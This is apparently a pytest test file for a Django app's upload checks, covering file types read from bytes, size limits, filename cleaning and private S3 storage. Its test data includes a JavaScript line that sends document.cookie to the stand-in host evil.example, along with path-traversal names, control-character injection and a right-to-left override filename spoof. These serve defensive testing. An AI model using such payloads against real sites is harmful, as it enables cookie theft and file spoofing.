"""What an upload may be: its type read from its bytes, its size, its name."""

import pytest
from django.core.exceptions import ValidationError
from django.http import Http404
from django.utils import translation

from core.storage import private_storage
from core.tests import sample_files
from core.tests.sample_files import upload
from core.uploads import OOXML, filename_clean, private_file_response, upload_inspect


@pytest.mark.parametrize(
    ("name", "content", "content_type", "kept_as"),
    [
        ("Rapport d'étape.pdf", sample_files.PDF, "application/pdf", "Rapport d'étape.pdf"),
        ("photo.PNG", sample_files.PNG, "image/png", "photo.PNG"),
        ("stand.jpeg", sample_files.JPEG, "image/jpeg", "stand.jpeg"),
        ("budget.xlsx", sample_files.xlsx(), f"{OOXML}.spreadsheetml.sheet", None),
        ("contrat.docx", sample_files.docx(), f"{OOXML}.wordprocessingml.document", None),
        ("arrivées.csv", b"mois,arrivees\njanvier,1200\nfevrier,1300\n", "text/csv", None),
        # A CSV with semicolons reads as plain text: accepted under .csv too.
        ("nuitées.csv", "mois;nuitées\njanvier;1200\n".encode(), "text/plain", None),
        ("تقرير الجهة.pdf", sample_files.PDF, "application/pdf", "تقرير الجهة.pdf"),
    ],
)
def test_accepted_files_keep_their_name_and_the_type_read_from_their_bytes(name, content, content_type, kept_as):
    inspected = upload_inspect(upload=upload(name, content, content_type="text/html"))
    assert inspected.content_type == content_type
    assert inspected.name == (kept_as or name)
    assert inspected.size == len(content)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("page.html", sample_files.HTML_WITH_SCRIPT, "type_refused"),
        # Named as a PDF, an HTML page is still HTML.
        ("rapport.pdf", sample_files.HTML_WITH_SCRIPT, "type_refused"),
        ("logo.svg", sample_files.SVG_WITH_SCRIPT, "type_refused"),
        ("logo.png", sample_files.SVG_WITH_SCRIPT, "type_refused"),
        ("install.txt", sample_files.SHELL_SCRIPT, "type_refused"),
        # A real PNG whose name says PDF: the extension lies about the content.
        ("facture.pdf", sample_files.PNG, "extension_mismatch"),
        ("photo.exe", sample_files.PNG, "extension_mismatch"),
        # A text file (JavaScript reads as plain text) under a script's extension.
        ("app.js", b"document.location='https://evil.example/'+document.cookie\n", "extension_mismatch"),
    ],
)
def test_hostile_files_are_refused_saying_why(name, content, code):
    with pytest.raises(ValidationError) as refusal:
        upload_inspect(upload=upload(name, content, content_type="application/pdf"))
    assert refusal.value.code == code
    assert refusal.value.messages[0]


def test_a_file_over_the_limit_is_refused_with_its_size_and_the_limit(settings):
    settings.EVIDENCE_MAX_UPLOAD_MB = 1
    with translation.override("fr"), pytest.raises(ValidationError) as refusal:
        upload_inspect(upload=upload("gros.pdf", sample_files.PDF.ljust(1536 * 1024, b" ")))
    assert refusal.value.code == "too_large"
    assert refusal.value.messages == ["Ce fichier pèse 1,5\xa0Mio : la limite est de 1,0\xa0Mio."]
    # At the limit exactly, it is accepted.
    assert upload_inspect(upload=upload("juste.pdf", sample_files.PDF.ljust(1024 * 1024, b" "))).size == 1024 * 1024


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\system32\\rapport.pdf", "rapport.pdf"),
        ("/etc/passwd", "passwd"),
        ("rapport\x00\r\n.pdf", "rapport .pdf"),
        # The right-to-left override would show "photo\u202egnp.pdf" as "photofdp.png".
        ("photo\u202egnp.pdf", "photognp.pdf"),
        ('a<b>:"c"|?*.pdf', "a_b___c____.pdf"),
        ("...", ""),
        ("  Rapport   final .pdf  ", "Rapport final .pdf"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
        ("تقرير جهة الداخلة.pdf", "تقرير جهة الداخلة.pdf"),
    ],
)
def test_names_are_cleaned_of_paths_and_control_characters(given, cleaned):
    assert filename_clean(given) == cleaned


def test_a_name_without_extension_gets_its_contents_one():
    assert upload_inspect(upload=upload("../../x", sample_files.PDF)).name == "x.pdf"
    assert upload_inspect(upload=upload("Rapport v1.2", sample_files.PNG)).name == "Rapport v1.2.png"
    assert upload_inspect(upload=upload("...", sample_files.PDF)).name == "fichier.pdf"


def test_a_missing_file_answers_404(private_media):
    class Stored:
        name, content_type = "absent.pdf", "application/pdf"
        file = type("File", (), {"open": lambda self, mode: private_media.open("nulle-part", mode)})()

    with pytest.raises(Http404):
        private_file_response(stored=Stored())


def test_private_storage_is_a_private_bucket_when_one_is_configured(settings):
    """No test talks to S3; the setting must still give the storage production uses."""
    settings.PRIVATE_STORAGE_BUCKET = "onmt-private"
    settings.PRIVATE_STORAGE_S3_OPTIONS = {
        **settings.PRIVATE_STORAGE_S3_OPTIONS,
        "bucket_name": "onmt-private",
        "endpoint_url": "https://s3.example.ma",
        "region_name": "eu-west-3",
    }
    storage = private_storage()
    assert type(storage).__name__ == "S3Storage"
    assert (storage.bucket_name, storage.endpoint_url, storage.default_acl) == (
        "onmt-private",
        "https://s3.example.ma",
        "private",
    )
    assert storage.querystring_auth and not storage.file_overwrite
    settings.PRIVATE_STORAGE_BUCKET = ""
    assert type(private_storage()).__name__ == "FileSystemStorage"
